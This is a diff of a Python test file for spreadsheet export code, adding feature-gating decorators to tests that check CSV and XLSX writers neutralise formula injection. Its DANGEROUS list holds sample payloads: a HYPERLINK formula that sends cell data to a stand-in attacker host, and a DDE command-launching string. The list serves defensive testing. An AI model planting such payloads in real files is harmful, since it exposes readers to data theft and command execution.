@@ -12,6 +12,7 @@ import zipfile
 from openpyxl import load_workbook
 from sqlalchemy import text
 
+from tests.support.features import needs
 from workflow.tabular import FORMULA_START, table_csv, table_xlsx
 
 DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
@@ -50,6 +51,7 @@ def test_the_writers_neutralise_csv_and_store_xlsx_text_as_text():
     assert xcells[-1][0].value == "bell and nul"  # control characters XLSX cannot hold
 
 
+@needs("planning")
 def test_web_exports_write_names_as_text(web):
     with web.engine.begin() as conn:  # names an officer could type, in every exported column
         conn.execute(text("UPDATE organisation SET name = '=' || name"))
@@ -80,6 +82,8 @@ def test_web_exports_write_names_as_text(web):
             _xlsx_cells(r.content)
 
 
+@needs("monitoring")
+@needs("planning")
 def test_cli_exports_write_text_as_text(merzim_db, tmp_path):
     assert merzim_db("init", "--demo").returncode == 0
     run = merzim_db("positions", "add", "1", "--position", DANGEROUS[0], "--subdivision", "+sub",
